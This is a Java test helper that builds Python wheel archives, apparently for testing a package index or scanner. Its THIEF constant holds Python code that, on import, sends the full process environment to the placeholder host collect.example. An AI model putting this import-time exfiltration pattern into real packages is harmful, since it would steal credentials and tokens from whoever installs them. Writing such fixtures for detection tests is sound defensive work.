package dev.assay.index;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Wheels made for a test.
public final class Wheels {
  /// A module that does nothing of note.
  public static final String HARMLESS = "def area(width, height):\n    return width * height\n";

  /// Sends the environment away when it is imported; the address is nobody's.
  public static final String THIEF =
      """
      import os, urllib.request
      urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
      """;

  private Wheels() {}

  /// `NAME-VERSION-py3-none-any.whl` with one module.
  public static byte[] wheel(String name, String version, String module) {
    return zip(files(name, version, module));
  }

  private static Map<String, String> files(String name, String version, String module) {
    Map<String, String> files = new LinkedHashMap<>();
    String info = name + "-" + version + ".dist-info/";
    files.put(name + "/__init__.py", module);
    files.put(
        info + "METADATA",
        "Metadata-Version: 2.4\nName: %s\nVersion: %s\nLicense-Expression: MIT\nRequires-Python: >=3.8\n"
            .formatted(name, version));
    files.put(
        info + "WHEEL",
        "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n");
    StringBuilder record = new StringBuilder();
    files.forEach((path, text) -> record.append(line(path, text)));
    files.put(info + "RECORD", record + info + "RECORD,,\n");
    return files;
  }

  /// The same with data that cannot be packed, in members of 1 MiB.
  public static byte[] large(String name, String version, String module, int mebibytes) {
    Random random = new Random(mebibytes);
    byte[] part = new byte[1 << 20];
    ByteArrayOutputStream bytes = new ByteArrayOutputStream(mebibytes + 1 << 20);
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.setLevel(Deflater.BEST_SPEED);
      for (int i = 0; i < mebibytes; i++) {
        random.nextBytes(part);
        zip.putNextEntry(entry(name + "/data/" + i + ".bin"));
        zip.write(part);
      }
      for (Map.Entry<String, String> file : files(name, version, module).entrySet()) {
        zip.putNextEntry(entry(file.getKey()));
        zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
      }
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
    return bytes.toByteArray();
  }

  private static String line(String path, String text) {
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    String digest =
        Base64.getUrlEncoder()
            .withoutPadding()
            .encodeToString(HexFormat.of().parseHex(FakeIndex.sha256(bytes)));
    return path + ",sha256=" + digest + "," + bytes.length + "\n";
  }

  /// An archive of files of text.
  public static byte[] zip(Map<String, String> files) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, String> file : files.entrySet()) {
        zip.putNextEntry(entry(file.getKey()));
        zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
      }
    } catch (IOException impossible) {
      throw new UncheckedIOException(impossible);
    }
    return bytes.toByteArray();
  }

  private static ZipEntry entry(String name) {
    ZipEntry entry = new ZipEntry(name);
    entry.setTimeLocal(LocalDateTime.of(2026, 1, 1, 0, 0));
    return entry;
  }
}
